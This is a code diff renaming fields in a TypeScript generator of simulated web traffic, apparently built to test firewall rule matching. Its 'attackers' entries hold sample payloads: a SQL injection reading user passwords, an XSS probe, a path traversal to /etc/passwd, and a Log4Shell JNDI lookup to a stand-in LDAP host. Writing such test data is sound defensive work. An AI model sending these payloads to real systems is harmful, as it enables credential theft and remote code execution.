@@ -24,11 +24,11 @@ export type RequestKind = {
 	/** Relative frequency of this kind among random requests. */
 	readonly share: number;
 	/** Additional requests in a busy minute; at least one in every minute. */
-	readonly always?: number;
-	readonly from: keyof typeof requestClients;
+	readonly extraPerMinute?: number;
+	readonly clientGroup: keyof typeof requestClients;
 	readonly method?: string;
 	/** The subdomain of the zone. */
-	readonly at?: string;
+	readonly subdomain?: string;
 	/** An asterisk stands for a word that depends on the client. */
 	readonly path: string;
 	readonly query?: string;
@@ -99,7 +99,7 @@ export const requestClients = {
 function listScoringRules(kind: string, count: number): readonly string[] {
 	const part = owaspParts.find(candidate => candidate.kind === kind);
 	return (part?.rules ?? []).slice(0, count).map((_, index) => {
-		return deriveId(`owasp rule ${(part?.first ?? 0) + index * 10}`);
+		return deriveId(`owasp rule ${(part?.firstNumber ?? 0) + index * 10}`);
 	});
 }
 
@@ -123,31 +123,31 @@ const falsePositive = {
 export const requestKinds: readonly RequestKind[] = [
 	{
 		share: 3,
-		from: 'attackers',
+		clientGroup: 'attackers',
 		path: '/products',
 		query: 'id=1%27%20UNION%20SELECT%20login,password%20FROM%20users--',
 		trips: sqlInjection,
 	},
-	{share: 40, from: 'visitors', path: '/'},
-	{share: 60, from: 'visitors', path: '/products/*', referer: '/'},
-	{share: 24, from: 'visitors', path: '/search', query: 'q=garden'},
-	{share: 18, from: 'visitors', path: '/cart', referer: '/products'},
-	{share: 8, from: 'visitors', method: 'POST', path: '/login', referer: '/login'},
-	{share: 6, from: 'visitors', method: 'POST', path: '/checkout', referer: '/cart'},
-	{share: 10, from: 'visitors', path: '/account/orders', referer: '/account'},
-	{share: 1, from: 'visitors', path: '/account', isUnencrypted: true},
-	{share: 20, from: 'visitors', path: '/api/v2/stock/*', at: 'api'},
-	{share: 4, from: 'visitors', path: '/old/*', query: 'utm_source=winter'},
-	{share: 8, from: 'office', path: '/admin/orders'},
-	{share: 3, from: 'office', path: '/internal/reports'},
-	{share: 3, from: 'office', method: 'POST', path: '/upload/photos'},
-	{share: 6, from: 'monitors', path: '/health'},
-	{share: 8, from: 'crawlers', path: '/products/*'},
-	{share: 4, from: 'partners', path: '/feed/prices.xml'},
+	{share: 40, clientGroup: 'visitors', path: '/'},
+	{share: 60, clientGroup: 'visitors', path: '/products/*', referer: '/'},
+	{share: 24, clientGroup: 'visitors', path: '/search', query: 'q=garden'},
+	{share: 18, clientGroup: 'visitors', path: '/cart', referer: '/products'},
+	{share: 8, clientGroup: 'visitors', method: 'POST', path: '/login', referer: '/login'},
+	{share: 6, clientGroup: 'visitors', method: 'POST', path: '/checkout', referer: '/cart'},
+	{share: 10, clientGroup: 'visitors', path: '/account/orders', referer: '/account'},
+	{share: 1, clientGroup: 'visitors', path: '/account', isUnencrypted: true},
+	{share: 20, clientGroup: 'visitors', path: '/api/v2/stock/*', subdomain: 'api'},
+	{share: 4, clientGroup: 'visitors', path: '/old/*', query: 'utm_source=winter'},
+	{share: 8, clientGroup: 'office', path: '/admin/orders'},
+	{share: 3, clientGroup: 'office', path: '/internal/reports'},
+	{share: 3, clientGroup: 'office', method: 'POST', path: '/upload/photos'},
+	{share: 6, clientGroup: 'monitors', path: '/health'},
+	{share: 8, clientGroup: 'crawlers', path: '/products/*'},
+	{share: 4, clientGroup: 'partners', path: '/feed/prices.xml'},
 	{
 		share: 0,
-		always: 3,
-		from: 'editors',
+		extraPerMinute: 3,
+		clientGroup: 'editors',
 		method: 'POST',
 		path: falsePositive.path,
 		referer: '/admin/import',
@@ -155,17 +155,17 @@ export const requestKinds: readonly RequestKind[] = [
 	},
 	{
 		share: 0,
-		always: 1,
-		from: 'partners',
+		extraPerMinute: 1,
+		clientGroup: 'partners',
 		method: 'POST',
 		path: '/partner/orders',
 		trips: {previousScores: ['960008', '960911', '960912']},
 	},
-	{share: 1, from: 'partners', method: 'DELETE', at: 'api', path: '/api/v1/orders/*'},
-	{share: 1, from: 'partners', path: '/api/v1/export/2026001'},
+	{share: 1, clientGroup: 'partners', method: 'DELETE', subdomain: 'api', path: '/api/v1/orders/*'},
+	{share: 1, clientGroup: 'partners', path: '/api/v1/export/2026001'},
 	{
 		share: 2,
-		from: 'attackers',
+		clientGroup: 'attackers',
 		path: '/search',
 		query: 'q=%3Cscript%3Ealert(1)%3C/script%3E',
 		trips: {
@@ -176,53 +176,53 @@ export const requestKinds: readonly RequestKind[] = [
 	},
 	{
 		share: 2,
-		from: 'attackers',
+		clientGroup: 'attackers',
 		path: '/download',
 		query: 'file=../../../../etc/passwd',
 		trips: {rules: [deriveRuleId('Platform Specials', 32)], scores: listScoringRules('lfi', 5)},
 	},
 	{
 		share: 2,
-		from: 'attackers',
+		clientGroup: 'attackers',
 		path: '/wp-admin/admin-ajax.php',
 		method: 'POST',
 		trips: {rules: [deriveRuleId('Platform WordPress', 34)]},
 	},
 	{
 		share: 1,
-		from: 'attackers',
+		clientGroup: 'attackers',
 		path: '/wp-content/plugins/upload.php',
 		method: 'POST',
 		trips: {rules: [deriveRuleId('Platform WordPress', 3)]},
 	},
-	{share: 1, from: 'attackers', path: '/wp-login.php', method: 'POST'},
-	{share: 1, from: 'attackers', path: '/xmlrpc.php', method: 'POST'},
+	{share: 1, clientGroup: 'attackers', path: '/wp-login.php', method: 'POST'},
+	{share: 1, clientGroup: 'attackers', path: '/xmlrpc.php', method: 'POST'},
 	{
 		share: 1,
-		from: 'attackers',
+		clientGroup: 'attackers',
 		path: '/index.php',
 		query: 'GLOBALS[x]=1',
 		trips: {rules: [deriveRuleId('Platform PHP', 2)]},
 	},
 	{
 		share: 1,
-		from: 'attackers',
+		clientGroup: 'attackers',
 		path: '/user/register',
 		method: 'POST',
 		trips: {rules: [deriveRuleId('Platform Drupal', 10)]},
 	},
 	{
 		share: 2,
-		from: 'attackers',
+		clientGroup: 'attackers',
 		path: '/.git/config',
 		trips: {rules: [deriveRuleId('Requested Bots', 2)], previousScores: ['990002', '990003', '990004']},
 	},
 	{
 		share: 2,
-		from: 'attackers',
+		clientGroup: 'attackers',
 		path: '/',
 		agent: '$\u007bjndi:ldap://198.51.100.222/a}',
 		trips: {rules: [log4j]},
 	},
-	{share: 1, from: 'attackers', path: '/admin'},
+	{share: 1, clientGroup: 'attackers', path: '/admin'},
 ];
